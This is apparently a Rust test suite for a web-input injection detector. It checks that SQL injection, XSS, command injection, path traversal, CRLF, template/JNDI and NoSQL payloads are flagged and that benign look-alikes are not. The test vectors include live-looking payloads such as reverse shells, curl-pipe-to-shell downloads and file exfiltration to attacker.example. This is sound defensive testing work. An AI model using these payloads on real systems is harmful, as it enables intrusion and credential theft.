//! Injection detectors: curated attack vectors per class (with evasion variants), look-alike
//! benign text, class filtering, long inputs, and a property test that arbitrary input never
//! panics.
#![cfg(feature = "sanitize")]

use proptest::prelude::*;
use tower_shield::sanitize::detect::{Detectors, Kind};

fn kind_of(v: &str) -> Option<Kind> {
    Detectors::default().inspect(v).map(|f| f.kind)
}

fn assert_all(kind: Kind, vectors: &[&str]) {
    let d = Detectors::default();
    let mut missed = Vec::new();
    for v in vectors {
        match d.inspect(v) {
            Some(f) => assert!(
                f.rule.starts_with(f.kind.as_str()),
                "rule {} must be prefixed by its class",
                f.rule
            ),
            None => missed.push(*v),
        }
    }
    assert!(missed.is_empty(), "{} missed: {missed:#?}", kind.as_str());
}

fn assert_benign(vectors: &[&str]) {
    let d = Detectors::default();
    let flagged: Vec<_> = vectors
        .iter()
        .filter_map(|v| d.inspect(v).map(|f| (*v, f.rule)))
        .collect();
    assert!(flagged.is_empty(), "false positives: {flagged:#?}");
}

#[test]
fn sqli_attacks() {
    assert_all(
        Kind::Sqli,
        &[
            "' OR 1=1 -- 1",
            "' or '1'='1",
            "admin'--",
            "admin' #",
            "1' ORDER BY 3--",
            "1 AND 1=1",
            "-1 UNION ALL SELECT NULL,NULL,NULL--",
            "1' UNION SELECT username, password FROM users--",
            "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
            "1'; DROP TABLE users;--",
            "1; EXEC xp_cmdshell 'dir'",
            "'; WAITFOR DELAY '0:0:10'--",
            "1 AND SLEEP(10)",
            "1' AND BENCHMARK(1000000,SHA1(1))#",
            "1) OR PG_SLEEP(3)--",
            "x' AND 1=CAST((SELECT version()) AS INT)--",
            "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user())))",
            "' OR 'abc' LIKE 'abc",
            "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
            "(SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)",
            "' || (SELECT 'a') || '",
            "1;DECLARE @q VARCHAR(99);SET @q='x';EXEC(@q)",
            "\") OR (\"x\"=\"x",
            "abc` WHERE 12=12 AND 12=12#",
            // evasions: comments, case, encodings, glued keywords, fullwidth
            "1'/**/UnIoN/**/SeLeCt/**/1,2,3--",
            "1' /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
            "1'/**/oR/**/7=7--",
            "1%27%20OR%201%3D1--",
            "1%2527%2520OR%25201%253D1--",
            "1' UN/**/ION SEL/**/ECT 1--",
            "1')UNIONSELECTNULL,NULL--",
            "1' OR4047=4047#",
            "１' ＯＲ １=１ --",
            "1&#39; OR 1=1--",
        ],
    );
}

#[test]
fn xss_attacks() {
    assert_all(
        Kind::Xss,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert(document.cookie)>",
            "\"><img src=x onerror=prompt(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<a href=\"jav&#x61;script&colon;alert(1)\">x</a>",
            "javascript:alert(document.domain)",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<x/contenteditable/onclick=alert`1`>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
            "<div style=\"width: expression(alert(1))\">",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "';alert(1)//",
            "\";alert(String.fromCharCode(88,83,83));//",
            "'-alert(1)-'",
            "</script><script>alert(1)</script>",
            // evasions: encodings, entities, unicode, glued attributes
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
            "&lt;img src=x onerror=alert(1)&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;svg onload=alert(1)&#x3e;",
            "＜script＞alert(1)＜/script＞",
            "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
            "<imgsrc=xonerror=alert(1)>",
            "'-\\u0061lert(1)-'",
        ],
    );
}

#[test]
fn cmdi_attacks() {
    assert_all(
        Kind::Cmdi,
        &[
            "; id",
            "127.0.0.1; cat /etc/passwd",
            "127.0.0.1 && whoami",
            "x || uname -a",
            "file.txt | nc attacker.example 4444",
            "a`id`",
            "$(whoami)",
            "foo; sleep 10",
            "1.1.1.1%0aid",
            "test & ping -n 10 127.0.0.1 &",
            "localhost; curl http://attacker.example/x.sh | sh",
            "x; wget http://attacker.example/a -O /tmp/a",
            "a'; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1 #",
            "foo\" & powershell -enc SQBFAFgA",
            "x & net user",
            "127.0.0.1 | type C:\\Windows\\win.ini",
            "() { :;}; /bin/bash -c id",
            // evasions: quotes, backslashes, IFS, brace expansion, globbing
            ";c'a't /etc/passwd",
            ";c\\at /etc/passwd",
            "x;cat${IFS}/etc/passwd",
            "x;cat$IFS$9/etc/passwd",
            "x;{cat,/etc/passwd}",
            "x;/???/??t /???/p??s??",
            "x$(</etc/passwd)",
            "x;/usr/bin/id",
        ],
    );
}

#[test]
fn traversal_attacks() {
    assert_all(
        Kind::Traversal,
        &[
            "../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/shadow",
            "..;/..;/WEB-INF/web.xml",
            "/var/www/../../etc/hosts",
            "../../../../boot.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
            "..%u2215..%u2215etc/passwd",
            "．．／．．／etc/passwd",
            "../../../../etc/passwd%00.png",
            "/etc/passwd",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "file:///etc/passwd",
            "php://filter/convert.base64-encode/resource=index.php",
            "0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd",
        ],
    );
}

#[test]
fn crlf_template_nosql_attacks() {
    let d = Detectors::default();
    let cases: &[(&str, Kind)] = &[
        ("x%0d%0aSet-Cookie: session=evil", Kind::Crlf),
        ("/%0d%0aLocation: http://evil.example", Kind::Crlf),
        ("x\r\nX-Injected: 1", Kind::Crlf),
        ("${jndi:ldap://evil.example/a}", Kind::Template),
        (
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            Kind::Template,
        ),
        (
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            Kind::Template,
        ),
        ("{{7*7}}", Kind::Template),
        (
            "{{ config.__class__.__init__.__globals__ }}",
            Kind::Template,
        ),
        ("<%= 7 * 7 %>", Kind::Template),
        ("#{7*7}", Kind::Template),
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            Kind::Template,
        ),
        ("username[$ne]=x", Kind::Nosql),
        ("{\"$where\": \"this.a == 1\"}", Kind::Nosql),
    ];
    for (v, k) in cases {
        let f = d.inspect(v).unwrap_or_else(|| panic!("missed {v}"));
        assert_eq!(f.kind, *k, "{v} -> {}", f.rule);
    }
}

#[test]
fn benign_lookalikes_pass() {
    assert_benign(&[
        // names and quotes
        "O'Brien",
        "Shaquille O'Neal",
        "Mr. & Mrs. O'Leary",
        "rock'n'roll",
        "It's either 'A' or 'B'",
        "She's 5' 4\" and he's 6'1\"",
        "12\" Subwoofer (300W)",
        "Guns N' Roses - Appetite for Destruction (LP)",
        // SQL-ish English
        "select your size",
        "Select all that apply",
        "Select * from our menu!",
        "drop me a line",
        "Drop Dead Fred (1991)",
        "Union workers and managers alike",
        "1 OR MORE items",
        "Order by phone: 555-0100",
        "Group by age, then by name",
        "Sleep 5 hours or less and you'll regret it",
        "wait for delay notification",
        "customer said: 'where is it?'",
        "if you're 18 or older, select 'Yes'",
        "-- signed, the management",
        "Update: order has shipped",
        "Insert Coin arcade poster",
        "Delete key replacement",
        "Don't call it destiny; call it injustice",
        // math and symbols
        "5 < 6",
        "5 < 6 and 7 > 3",
        "1 < 2 && 3 > 2",
        "2 + 2 = 4",
        "x^2 + y^2 = z^2",
        "100% cotton",
        "50% off!!! (today only)",
        "price < $50",
        "I <3 NY",
        "<-- click here",
        "a -> b -> c",
        // ampersands and shell-ish text
        "Rock & Roll",
        "AT&T Prepaid SIM",
        "Procter & Gamble",
        "Q&A",
        "R&D dept.",
        "Table & 4 chairs",
        "Domino's Pizza; extra cheese",
        "foo;bar",
        "a|b|c",
        "&copy; 2024 Acme",
        "git log --oneline | head",
        "ls -la | grep foo",
        "cd ~/projects && make",
        "echo \"Hello, World\"",
        "Tom & who knows",
        // code, markup, paths, urls
        "<b>bold</b>",
        "<span class=\"x\">y</span>",
        "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>",
        "<code>x &lt; y</code>",
        "<Unknown> Brand Tee",
        "console.log('hi');",
        "printf(\"%d\\n\", x);",
        "fn main() { println!(\"hi\"); }",
        "let s = `hello ${name}`;",
        "Hello {{ name }}",
        "$HOME",
        "See [docs](../docs/README.md)",
        "C:\\Users\\Public\\Documents\\report.docx",
        "/home/alice/Documents/report (final).pdf",
        "/etc is a directory on Linux",
        "https://example.com/search?q=tom+%26+jerry&page=2",
        "https://en.wikipedia.org/wiki/O'Reilly_Media",
        "www.example.com/select/union",
        "{\"filter\": {\"price\": {\"$lt\": 100}}}",
        "JavaScript: The Good Parts",
        "Note: set the table at 7",
    ]);
}

#[test]
fn only_enabled_classes_fire() {
    let only_xss = Detectors::only(&[Kind::Xss]);
    assert!(only_xss.is_enabled(Kind::Xss));
    assert!(!only_xss.is_enabled(Kind::Sqli));
    assert_eq!(only_xss.inspect("' OR 1=1--"), None);
    assert_eq!(
        only_xss
            .inspect("<script>alert(1)</script>")
            .map(|f| f.kind),
        Some(Kind::Xss)
    );
    let none = Detectors::only(&[]);
    assert_eq!(none.inspect("<script>alert(1)</script>"), None);
}

#[test]
fn findings_name_stable_rules() {
    let d = Detectors::default();
    assert_eq!(
        d.inspect("1 UNION SELECT 1,2").map(|f| f.rule),
        Some("sqli.union_select")
    );
    assert_eq!(
        d.inspect("<img src=x onerror=alert(1)>").map(|f| f.rule),
        Some("xss.event_handler")
    );
    assert_eq!(
        d.inspect("../../../etc/passwd").map(|f| f.rule),
        Some("traversal.dot_dot")
    );
    assert_eq!(Kind::Template.as_str(), "template");
}

#[test]
fn long_values_are_scanned_in_windows_linearly() {
    let d = Detectors::default();
    let filler = "lorem ipsum dolor sit amet ".repeat(4000); // ~108 KB
    assert_eq!(d.inspect(&filler), None);
    let tail_attack = format!("{filler}<script>alert(1)</script>");
    assert_eq!(kind_of(&tail_attack), Some(Kind::Xss));
    // an attack straddling a window boundary is still seen (windows overlap)
    let boundary = format!("{}' UNION SELECT 1,2--", "a".repeat(8 * 1024 - 10));
    assert_eq!(kind_of(&boundary), Some(Kind::Sqli));
    // pathological inputs stay fast
    let start = std::time::Instant::now();
    for v in [
        "%".repeat(200_000),
        "%25".repeat(70_000),
        "&#".repeat(100_000),
        "'".repeat(200_000),
        "<a ".repeat(70_000),
        "(".repeat(200_000),
        "../".repeat(70_000),
        "${".repeat(100_000),
        "/*".repeat(100_000),
    ] {
        let _ = d.inspect(&v);
    }
    assert!(
        start.elapsed() < std::time::Duration::from_secs(5),
        "pathological inputs too slow: {:?}",
        start.elapsed()
    );
}

/// Vectors written after the rules were tuned (never used for tuning): a generalization
/// check across classes.
#[test]
fn fresh_vectors_generalize() {
    let d = Detectors::default();
    let attacks = [
        "1' AND (SELECT SUBSTR(table_name,1,1) FROM information_schema.tables LIMIT 1)='a'--",
        "-1' UNION SELECT 1,group_concat(schema_name),3 FROM information_schema.schemata-- -",
        "x' OR 'q'<>'r' --",
        "1 AND 5=5 -- x",
        "'; INSERT INTO users(name) VALUES('x')--",
        "1'; UPDATE users SET role='admin' WHERE id=1--",
        "1 AND (SELECT 7 FROM pg_sleep(4))",
        "1' RLIKE (SELECT 1)--",
        "')) OR 1=1 LIMIT 1#",
        "admin\")/**/or/**/(\"1\"=\"1",
        "1'||(SELECT CHR(65))||'",
        "x' UNION/*x*/SELECT/*x*/null,null--",
        "1;SELECT pg_sleep(5)",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<video><source onerror=\"alert(1)\">",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<form><button formaction=javascript:alert(1)>x",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onhashchange=alert(1)><a href=#x>click",
        "\"><marquee onstart=confirm(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
        "`;alert(1);//",
        "<a href=\" &#14;javascript:alert(1)\">x</a>",
        "x;nslookup attacker.example",
        "a|curl -d @/etc/passwd attacker.example",
        "127.0.0.1 `sleep 5`",
        "x && certutil -urlcache -f http://attacker.example/a.exe a.exe",
        "$(curl attacker.example/s|sh)",
        "x||wget -qO- attacker.example|sh",
        "foo;bash${IFS}-c${IFS}id",
        "a%0Auname%20-a",
        "x & whoami /priv",
        "y; python3 -c 'import os;os.system(\"id\")'",
        "../../../../proc/self/environ",
        "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam",
        "....\\/....\\/etc/hosts",
        "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
        "..%252f..%252f..%252fapp/.env",
        "file:///c:/windows/win.ini",
        "zip://uploads/a.zip%23shell.php",
        "/var/www/html/../../../root/.ssh/id_rsa",
        "..///..///..///etc/passwd",
    ];
    let missed: Vec<_> = attacks.iter().filter(|v| d.inspect(v).is_none()).collect();
    assert!(missed.is_empty(), "missed: {missed:#?}");
    assert_benign(&[
        "Let's meet at 5 -- or 6 if you're late",
        "It's 5' 11\" tall; fits most doors",
        "Select-a-Size™ shoes",
        "\"Union Jack\" flag, 3' x 5'",
        "Bob's Burgers & Fries; delivery",
        "Use SELECT carefully when learning SQL",
        "Where is O'Hare airport?",
        "Price: 10 < x < 20",
        "<i>italic</i> and <em>emphasis</em>",
        "<p>Paragraph</p>",
        "Email me: jane.o'neil@example.com",
        "C:\\Program Files\\App\\readme.txt",
        "../images/logo.png",
        "Call me at (555) 010-9999 ext. 12",
        "path/to/file.txt",
        "Sleep well & sweet dreams",
        "Drop-off point: Gate 4; pick-up at 6",
        "Insert tab A into slot B",
        "Javascript is fun",
        "{{ user.name }}",
        "x = 1; y = 2",
        "I said \"and\" not \"or\"",
        "50% & rising",
        "Ben & Jerry's; Häagen-Dazs",
        "Terms & Conditions apply*",
    ]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn never_panics_on_arbitrary_strings(s in "\\PC{0,300}") {
        let _ = Detectors::default().inspect(&s);
    }

    #[test]
    fn never_panics_on_attack_alphabet(s in "[ '\"`;|&$(){}<>=/\\\\.%0-9a-fA-FxuU#*!@:,\\-\\n\\r\\t]{0,200}") {
        let _ = Detectors::default().inspect(&s);
    }
}

#[test]
fn ssh2_stream_wrappers_and_long_paths() {
    let d = Detectors::default();
    for v in [
        "ssh2.shell://user:pass@example.com:22/xterm",
        "ssh2.exec://user:pass@example.com:22/usr/local/bin/somecmd",
        "file=ssh2.sftp://user:pass@example.com:22/path/to/filename",
    ] {
        let f = d.inspect(v).unwrap_or_else(|| panic!("missed {v}"));
        assert_eq!(
            (f.kind, f.rule),
            (Kind::Traversal, "traversal.stream_wrapper"),
            "{v}"
        );
    }
    assert_eq!(d.inspect("we use the ssh2 extension."), None);
    // values longer than the detector's stack buffer take the heap path, same verdicts
    let long = format!("{}../../../etc/passwd", "a/".repeat(400));
    assert_eq!(d.inspect(&long).map(|f| f.rule), Some("traversal.dot_dot"));
    assert_eq!(d.inspect(&"a/b ".repeat(300)), None);
}
